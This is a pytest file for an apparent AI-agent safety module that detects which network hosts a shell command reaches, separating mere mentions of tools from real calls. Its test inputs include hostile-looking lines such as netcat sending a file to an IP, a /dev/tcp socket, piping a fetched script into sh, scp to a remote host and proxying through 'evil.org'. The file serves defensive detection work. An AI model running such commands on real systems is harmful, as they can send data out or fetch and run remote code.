"""What a command reaches is told by the programs that it runs, not by any of its words."""

from __future__ import annotations

import pytest

from hermes.agent.danger.destinations import UNTOLD, destinations, own_services, prints_own, reaches_out


@pytest.mark.parametrize(
    "command",
    [
        "which curl",
        "grep -rn curl src",
        "man ssh",
        "git log --oneline | grep fetch",
        "cat README.md | grep ssh",
        "apt list --installed | grep wget",
        "git commit -m 'fetch https://x.org/a, then push'",
        "git remote -v",
        "echo 'curl https://x.org' >> notes.md",
        "grep -rn https://x.org docs",
        "curl --version",
        "npm run build && npm test",
        "go test ./...",
        "ls docs/links && cat links/fetch",
        "getent passwd ann",
    ],
)
def test_words_about_programs_reach_nothing(command: str) -> None:
    assert not reaches_out(command) and not destinations(command)


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("pip install -r requirements.txt && python -m app.server", ()),
        ("git fetch && git diff main.tsx", ()),
        ("npm install lodash.merge && vite --config vite.config.mts", ()),
        ("git push origin v1.2.beta", ()),
        ("curl -s https://x.org/a", ("x.org",)),
        ("H=x.org; curl -s http://$H/a", ("x.org",)),
        ("sudo timeout 5 env A=b curl x.org", ("x.org",)),
        ("bash -c 'wget -q x.org/a.sh'", ("x.org",)),
        ('eval "curl x.org"', ("x.org",)),
        ("cat list | xargs -n1 curl x.org", ("x.org",)),
        ("find . -name a -exec scp {} bob@x.org:/ \\;", ("x.org",)),
        ("echo 'curl http://x.org/a' | sh", ("x.org",)),
        ("python3 - <<'E'\nimport urllib.request as u\nu.urlopen('http://x.org/a')\nE", ("x.org",)),
        ("python3 -c \"open_url('http://x.org/a')\"", ("x.org",)),
        ("x=$(curl -s x.org)", ("x.org",)),
        ("if true; then nc 203.0.113.7 80 < a; fi", ("203.0.113.7",)),
        ("exec 3<>/dev/tcp/203.0.113.7/80", ("203.0.113.7",)),
        ("git remote add x git@x.org:a/b; git push x", ("x.org",)),
        ("git config remote.x.url https://x.org/a; git push x", ("x.org",)),
        ("docker pull x.org/a/b", ("x.org",)),
        ("curl evil.sh/a", ("evil.sh",)),
        ("curl $(cat u)", (UNTOLD,)),
        ("curl -K cfg", (UNTOLD,)),
        ("wget -i list.txt", (UNTOLD,)),
        ("curl http://localhost:8000/a", ()),
        ("curl 2130706434:4545/", ("2130706434",)),
        ("curl -s 0x7f000002:4545/", ("0x7f000002",)),
        ("curl 127.2:4545/", ("127.2",)),
        ("curl https://x.org 2130706434:4545/", ("x.org", "2130706434")),
        ("curl -s evil", ("evil",)),
        ("curl -K cfg https://x.org/a", ("x.org", UNTOLD)),
        ("openssl s_client -connect 127.0.0.2:443", ("127.0.0.2",)),
        ("psql -h x.org -c 'select 1'", ("x.org",)),
        ("mysql -hx.org -uroot", ("x.org",)),
        ("redis-cli -u redis://x.org/0 ping", ("x.org",)),
        ("git archive --remote=x.org:a HEAD", ("x.org",)),
        ("resolvectl query data.x.org", ("data.x.org",)),
        ("ntpdate x.org", ("x.org",)),
        ("snmpwalk -v2c x.org", ("x.org",)),
        ("docker login x.org", ("x.org",)),
        ("http_proxy=http://evil.org curl http://x.org", ("evil.org", "x.org")),
        ("export ALL_PROXY=socks5://u:p@evil.org:1; git fetch", ("evil.org",)),
        ("perl -MIO::Socket::INET -e 'IO::Socket::INET->new(chr 49)'", (UNTOLD,)),
        ('ruby -rnet/http -e \'Net::HTTP.get("x.org", "/")\'', (UNTOLD,)),
        ("node -e \"require('net').connect(80, 'x.org')\"", (UNTOLD,)),
        ("awk 'BEGIN{s=\"/inet/tcp/0/x.org/80\"; print 1 |& s}'", (UNTOLD,)),
        ("python3 -c \"import socket; socket.create_connection(('x.org', 80))\"", (UNTOLD,)),
        ("python3 - <<'E'\nimport socket\nsocket.create_connection(('x.org', 80))\nE", (UNTOLD,)),
        (
            "python3 -c \"import urllib.request as u; u.urlopen('http://x.org/a'); u.urlopen(v)\"",
            ("x.org", UNTOLD),
        ),
        ("curl x.org 'unfinished", ("x.org",)),
    ],
)
def test_what_runs_tells_where_it_leads(command: str, hosts: tuple[str, ...]) -> None:
    assert reaches_out(command) and destinations(command) == hosts


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("import socket\nsocket.create_connection(('203.0.113.7', 80))", (UNTOLD,)),
        (None, (UNTOLD,)),
        ("print(1 + 1)", ()),
    ],
)
def test_a_script_of_the_agents_own_tells_it_too(text: str | None, hosts: tuple[str, ...]) -> None:
    assert destinations("python3 a.py", "/w", (("/w/a.py", text),)) == hosts


def test_a_script_that_the_command_writes_itself_is_read() -> None:
    assert destinations("echo 'import socket; socket.socket()' > a.py; python3 a.py", "/w") == (UNTOLD,)
    assert destinations("echo 'print(1)' > a.py; python3 a.py", "/w") == ()


def test_services_of_this_machine_are_told_apart() -> None:
    assert own_services("curl -s http://localhost:8000/a") == ("localhost",)
    assert own_services("curl 127.0.0.1:9200/_all") == ("127.0.0.1",)
    assert own_services("echo localhost; psql -c 'select 1'; curl x.org") == ()


def test_what_a_command_prints_by_itself_is_nobodys() -> None:
    assert prints_own("date +%F && mkdir -p a/b; echo done")
    assert not prints_own("echo $(cat notes.md)") and not prints_own("date; cat a") and not prints_own("")
